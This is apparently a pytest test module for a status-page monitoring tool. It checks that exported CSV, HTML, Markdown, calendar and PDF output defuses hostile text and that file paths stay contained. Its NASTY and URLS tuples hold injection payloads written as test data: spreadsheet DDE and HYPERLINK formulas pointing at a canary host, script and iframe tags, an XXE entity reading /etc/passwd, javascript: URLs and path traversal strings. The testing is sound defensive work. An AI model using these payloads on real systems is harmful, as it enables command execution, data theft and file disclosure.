"""Exports."""

from __future__ import annotations

import asyncio
import importlib
import re
import sys
import tracemalloc
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from statuswatch import export
from statuswatch.app.records import records
from statuswatch.cli.main import main
from statuswatch.core.model import (
    Incident,
    KnownIncident,
    Level,
    Role,
    Service,
    Source,
    Update,
)
from statuswatch.core.record import Record, record
from statuswatch.core.words import Setting, say
from statuswatch.export.writing import write_whole
from statuswatch.store.nouns import Filter
from tests.engine.stage import MINUTE, Town, incident, summary
from tests.hostile.case import Rig, case, held, look
from tests.hostile.forms import FORMS, Seen, clean, in_markdown, whole
from tests.hostile.papers import READERS, a_pdf_loads_nothing, every_document

NOON = datetime(2025, 11, 9, 12, 0, tzinfo=UTC)
NASTY = (
    '=HYPERLINK("http://canary.invalid/"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \u200b＝1+1",
    "'=1+1",
    '"quoted", and, commas;\nand a line\r\nand another\rend',
    "NUL\0in the middle, \x1b[31mred\x1b[0m, bell\x07, \x9b31m",
    "half a sign \ud83d and \udfff",
    "\u202eevitator\u202c \u2066isolated\u2069 zalgo Z\u0351\u036b\u0343\u036a\u0302",
    "<script src=//canary.invalid/x.js></script><img src=x onerror=alert(1)>",
    "</td></tr></table><iframe src='http://canary.invalid'></iframe>",
    "</title><style>@import url(//canary.invalid)</style>&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]></content><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "[link](javascript:alert(1)) ![i](http://canary.invalid/i.png) <http://canary.invalid>",
    "| a | table | --- | `code` *bold* # head\n# another\n- item\n> quote",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTENDEE:mailto:a@canary.invalid",
    "back\\slash; semicolon, comma\\n" + "é" * 200,
    "../../../etc/passwd",
    "x" * 50_000,
    "",
)
URLS = (
    "https://status.example.com/i/1",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    'https://h.example/"onmouseover=alert(1) x="',
    "https://h.example/a b\r\nX-EVIL:1",
    "https://h.example/)](javascript:alert(1))",
    " http://h.example/<script>",
    "",
)


def hostile_records() -> Iterator[Record]:
    for n, text in enumerate(NASTY):
        service = Service("s", text or "Vendor")
        source = Source("s1", "s", "statuspage", f"https://user:pw{n}@status.example.com/{n}")
        update = Update(f"u{n}", NOON, text[:40], text)
        told = Incident(
            f"k{n}",
            text or "No title",
            Level.DOWN,
            NOON + timedelta(hours=n),
            None if n % 3 else NOON + timedelta(hours=n, minutes=90),
            url=URLS[n % len(URLS)],
            components=frozenset({text, "A part"} - {""}),
            updates=(update,),
        )
        known = KnownIncident("s1", Role.OFFICIAL, told, NOON, NOON, worst=Level.DOWN)
        yield record(service, source, known, f"o{n}", None, NOON + timedelta(days=9))


def each() -> tuple[str, ...]:
    """Every format there is. A new one has to say above what it must hold."""
    assert set(export.names()) <= set(FORMS), set(export.names()) - set(FORMS)
    return export.names()


def rendered(name: str, rows: Iterable[Record]) -> str:
    return "".join(export.load(name).render(rows, NOON + timedelta(days=9)))


def strangers_words_in_every_format(_: Rig) -> str:
    rows = list(hostile_records())
    for name in each():
        text = rendered(name, rows)
        whole(text)
        FORMS[name](text, len(rows))
        READERS.get(name, lambda _text, _rows: None)(text, len(rows))
        assert not re.search(r"pw\d+@", text), f"a password in {name}"
    return f"{len(rows)} rows of strangers' text in {', '.join(each())}"


async def from_the_page_to_the_file(rig: Rig) -> str:
    """The same words, told by a vendor's page: polled, kept, exported."""
    async with Town(rig.folder) as town:
        vendor = await town.vendor(name="=cmd|' /C calc'!A0")
        async with town.watching():
            await town.go(MINUTE * 10)
            told = []
            for n, text in enumerate(NASTY):
                name = text.encode("utf-8", "replace").decode()
                update = {"id": f"u{n}", "body": name, "status": "investigating"}
                told.append(incident(f"i{n}", name=name or "x", incident_updates=[update]))
            vendor.body = summary(*told)
            await town.go(MINUTE * 20)
        now = town.clock.now()
        rows = list(records(town.app.stored.history, Filter(), now))
    assert len(rows) >= len(NASTY) - 1, len(rows)
    for name in each():
        text = rendered(name, rows)
        clean(text)
        FORMS[name](text, len(rows))
    return f"{len(rows)} incidents of one page"


def documents_of_strangers_words(_: Rig) -> str:
    """The documents, where the program has them: they escape in every form."""
    try:
        papers = importlib.import_module("statuswatch.export.papers")
        paper = importlib.import_module("statuswatch.core.paper")
    except ImportError:
        pytest.skip("there are no documents yet")
    seen = 0
    for form in papers.names():
        for n, text in enumerate(NASTY):
            told = paper.Told(text, URLS[n % len(URLS)])
            blocks = (
                paper.Heading(told),
                paper.Paragraph(told),
                paper.Quote(told, told, NOON, told, (told,)),
                paper.Table((say("A"),), ((told,),)),
                paper.Bullets((told,)),
                paper.Figures(((say("B"), told),)),
            )
            made: Any = paper.Paper(say("About {what}", what=text), None, blocks)
            written = "".join(papers.load(form).render(made, Setting()))
            clean(written)
            if form == "html":
                page = Seen()
                page.feed(written)
                page.close()
            elif form == "markdown":
                in_markdown(written)
            seen += 1
    return f"{seen} documents in {', '.join(papers.names())}"


def every_document_of_a_hostile_vendor(rig: Rig) -> str:
    return every_document(rig, NASTY, URLS)


# -- places -----------------------------------------------------------------------------------


async def names_that_climb(rig: Rig) -> str:
    """A service is called like a path: a file's name is never made of it."""
    async with Town(rig.folder / "profile") as town:
        vendor = await town.vendor(name="../../../../tmp/evil")
        async with town.watching():
            await town.go(MINUTE * 10)
            vendor.body = summary(incident(name="../../evil", id="../../i"))
            await town.go(MINUTE * 10)
        [service] = town.app.stored.ledger.services()
    assert re.fullmatch(r"[a-z0-9-]+", service.id), service.id
    for name in each():
        target = rig.folder / f"out{export.load(name).suffix}"
        code = await asyncio.to_thread(
            main, ["--profile", str(town.folder), "export", "--format", name, "-o", str(target)]
        )
        assert code == 0
        assert target.is_file()
    outside = {p.name for p in rig.folder.iterdir()} - {"profile"}
    assert outside == {f"out{export.load(name).suffix}" for name in each()}, outside
    return f"the service's id is {service.id}; {len(outside)} files, all where they were asked for"


def a_hundred_thousand_rows(rig: Rig) -> str:
    """In every format, streamed: what stands in memory is no more than of a few."""
    words = []
    for name in each():
        few = list(hostile_records())[-1:]

        def many(one: Record = few[0]) -> Iterator[Record]:
            for _ in range(100_000):
                yield one

        path = rig.folder / f"many{export.load(name).suffix}"
        rendered_ = export.load(name).render(many(), NOON)
        tracemalloc.start()
        write_whole(path, rendered_)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert most < 10_000_000, f"{name}: {most / 1e6:.0f} MB"
        words.append(f"{name} {path.stat().st_size / 1e6:.0f} MB with {most / 1e6:.1f} MB")
    return f"100,000 rows: {', '.join(words)}"


async def places_that_cannot_be_written(rig: Rig) -> str:
    async with Town(rig.folder / "profile") as town:
        vendor = await town.vendor()
        async with town.watching():
            await town.go(MINUTE * 10)
            vendor.body = summary(incident())
            await town.go(MINUTE * 10)
    folder = rig.folder / "a folder"
    folder.mkdir()
    file = rig.folder / "a file"
    file.write_text("x")
    places = [folder, rig.folder / "none" / "x", file / "x", rig.folder / ("n" * 300)]
    if sys.platform == "linux":
        places.append(Path("/dev/full"))
    for name in each():
        for place in places:
            code = await asyncio.to_thread(
                main, ["--profile", str(town.folder), "export", "--format", name, "-o", str(place)]
            )
            assert code == 64, (name, place, code)
    assert file.read_text() == "x"
    assert {p.name for p in rig.folder.iterdir()} == {"profile", "a folder", "a file"}
    return f"{len(places)} places, each refused in words in {len(each())} formats; nothing left"


WRITING = "tests/export/test_writing.py"

CASES = (
    case(
        104,
        "formulas, quotes, line breaks, odd Unicode, NUL in every column",
        "0 formula cells; every file can be read back, in every format",
        look(strangers_words_in_every_format),
        look(from_the_page_to_the_file),
        held(
            "tests/export/test_formats.py::test_a_cell_that_a_spreadsheet_would_execute_is_defused",
            "tests/export/test_formats.py::test_every_json_reads_back_as_it_was",
            "tests/export/test_formats.py::test_half_a_surrogate_pair_spoils_no_file",
        ),
    ),
    case(
        105,
        "names that are paths",
        "no file outside of what was asked for",
        look(names_that_climb),
    ),
    case(
        106,
        "100,000 rows",
        "streamed: under 10 MB of memory, in every format",
        look(a_hundred_thousand_rows, slow="some 20 s a format"),
        held(
            "tests/export/test_formats.py::test_rendering_reads_no_further_than_it_has_written",
        ),
    ),
    case(
        107,
        "a target that is a folder, on a full disk, not writable",
        "said in words, the old file as it was, nothing left beside it",
        look(places_that_cannot_be_written),
        held(
            f"{WRITING}::test_an_interrupted_export_keeps_the_old_file",
            f"{WRITING}::test_a_full_disk_keeps_the_old_file_and_is_told",
            f"{WRITING}::test_a_folder_is_no_file",
            f"{WRITING}::test_a_place_one_may_not_write_is_told",
        ),
    ),
    case(
        108,
        "HTML and PDF that are made unattended",
        "strangers' text is text: no tag, no script, no picture, no address that is none",
        look(strangers_words_in_every_format, "strangers words as a page"),
        look(documents_of_strangers_words),
        look(every_document_of_a_hostile_vendor),
        look(a_pdf_loads_nothing),
    ),
)
